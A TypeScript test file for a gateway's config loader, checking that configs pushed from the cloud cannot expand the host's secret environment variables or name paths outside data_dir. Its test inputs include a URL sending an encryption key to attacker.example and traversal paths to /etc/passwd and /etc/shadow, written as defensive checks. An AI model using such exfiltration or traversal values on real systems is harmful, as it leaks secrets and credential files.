import assert from "node:assert/strict";
import { loadConfigFile } from "./load.ts";
import { pathProblems } from "./pushed_policy.ts";

const LOCAL = (extra = "") => `
[cloud]
enabled = true
url = "https://cloud.example.com"
${extra}

[backends.local_echo]
service = "echo"
`;

/** Loads a local file plus a managed (pushed) file; answers the problems as `path: message`. */
async function load(local: string, pushed: string, env: Record<string, string> = {}) {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(`${dir}/gateway.toml`, local);
    await Deno.writeTextFile(`${dir}/cloud.toml`, pushed);
    const result = await loadConfigFile(`${dir}/gateway.toml`, {
      managedFiles: [`${dir}/cloud.toml`],
      env: (name) => env[name],
    });
    return {
      dir,
      config: result.config,
      problems: result.problems.map((p) => `${p.path}: ${p.message}`),
    };
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

const HTTP_BACKEND = (url: string) => `
[backends.api]
service = "http"
targets = ["t"]
[targets.t]
url = "${url}"
`;

const STORAGE = (root: string) => `
[backends.files]
service = "storage"
[backends.files.options]
root = "${root}"
read_pattern = "{path}"
`;

Deno.test("pushed config: ${VAR} only for [cloud] allowed_env; the host's secrets stay out", async () => {
  const env = { GATEWAY_ENCRYPTION_KEY: "AGE-SECRET-KEY-1XYZ", HAPI_URL: "http://hapi:8080" };
  const stolen = await load(
    LOCAL(),
    HTTP_BACKEND("http://attacker.example/${GATEWAY_ENCRYPTION_KEY}"),
    env,
  );
  assert.equal(stolen.config, undefined, "the pushed config is refused");
  assert.match(
    stolen.problems.join("\n"),
    /`\$\{GATEWAY_ENCRYPTION_KEY\}`: a configuration pushed from the cloud may reference only the environment variables listed in \[cloud\] allowed_env/,
  );
  assert.ok(!stolen.problems.join("\n").includes("AGE-SECRET"), "the value never appears");
  const withFallback = await load(
    LOCAL(),
    HTTP_BACKEND("http://x/${GATEWAY_ENCRYPTION_KEY:-none}"),
    env,
  );
  assert.equal(withFallback.config, undefined, "a fallback does not make a refused name usable");

  const allowed = await load(
    LOCAL('allowed_env = ["HAPI_URL"]'),
    HTTP_BACKEND("${HAPI_URL}/fhir"),
    env,
  );
  assert.deepEqual(allowed.problems, []);
  assert.equal(allowed.config?.targets.t.url, "http://hapi:8080/fhir");

  // The operator's own file keeps full expansion.
  const local = await load(LOCAL() + HTTP_BACKEND("http://x/${GATEWAY_ENCRYPTION_KEY}"), "", env);
  assert.deepEqual(local.problems, []);
});

Deno.test("pushed config: paths stay inside [cloud] data_dir, spec files inside transforms_path", async () => {
  for (const root of ["/etc", "/", "../outside", "data/../../etc", "state"]) {
    const r = await load(LOCAL(), STORAGE(root));
    assert.equal(r.config, undefined, root);
    assert.match(
      r.problems.join("\n"),
      /backends\.files\.options\.root: .* is outside .*\/data \(\[cloud\] data_dir\)/,
      root,
    );
  }
  const tls = await load(
    LOCAL(),
    `[network.pub]\nport = 8443\ntls_cert_path = "/etc/ssl/private/host.pem"\ntls_key_path = "data/k.pem"\n`,
  );
  assert.match(tls.problems.join("\n"), /network\.pub\.tls_cert_path: .* is outside/);
  const spec = await load(
    LOCAL(),
    `[middleware.m]\ntype = "transform"\n[middleware.m.options]\nspec_path = "../../etc/passwd"\n`,
  );
  assert.match(
    spec.problems.join("\n"),
    /middleware\.m\.options\.spec_path: .* is outside .*transforms \(transforms_path\)/,
  );

  for (const root of ["data/archive", "data", "s3://bucket/prefix"]) {
    const r = await load(
      LOCAL(),
      STORAGE(root) + (root.startsWith("s3") ? 'region = "eu-central-1"\n' : ""),
    );
    assert.deepEqual(r.problems, [], root);
  }
  const elsewhere = await load(
    LOCAL('data_dir = "/srv/gateway-data"'),
    STORAGE("/srv/gateway-data/x"),
  );
  assert.deepEqual(elsewhere.problems, []);
  // The operator's own file may name any path.
  assert.deepEqual((await load(LOCAL() + STORAGE("/etc"), "")).problems, []);
});

Deno.test("pathProblems: queue dirs, credential and TLS files of a pushed config stay in data_dir", () => {
  const policy = {
    allowedEnv: new Set<string>(),
    dataDir: "/srv/gw/data",
    transformsDir: "/srv/gw/transforms",
    stateDir: "/srv/gw",
  };
  const doc = {
    backends: {
      q: {
        service: "http",
        queue: { dir: "/etc" },
        options: {
          base_url: "http://x",
          auth: { type: "bearer", token_file: "/etc/shadow" },
          ca_path: "../x.pem",
          client_cert_path: "data/ok.pem",
        },
      },
    },
  };
  assert.deepEqual(pathProblems(doc, policy, "/srv/gw").map(([path]) => path).sort(), [
    "backends.q.options.auth.token_file",
    "backends.q.options.ca_path",
    "backends.q.queue.dir",
  ]);
});

Deno.test("pathProblems: with GATEWAY_STATE_DIR, data_dir and pushed queue dirs resolve in it", () => {
  const policy = {
    allowedEnv: new Set<string>(),
    dataDir: "/var/lib/gateway/data",
    transformsDir: "/etc/gateway/transforms",
    stateDir: "/var/lib/gateway",
  };
  const doc = {
    backends: {
      q: { service: "echo", queue: { dir: "data/q" } },
      r: { service: "echo", queue: { dir: "queues/r" } },
    },
  };
  // Relative to the state directory: data/q is inside data_dir, queues/r is not.
  assert.deepEqual(pathProblems(doc, policy, "/etc/gateway").map(([path]) => path), [
    "backends.r.queue.dir",
  ]);
});
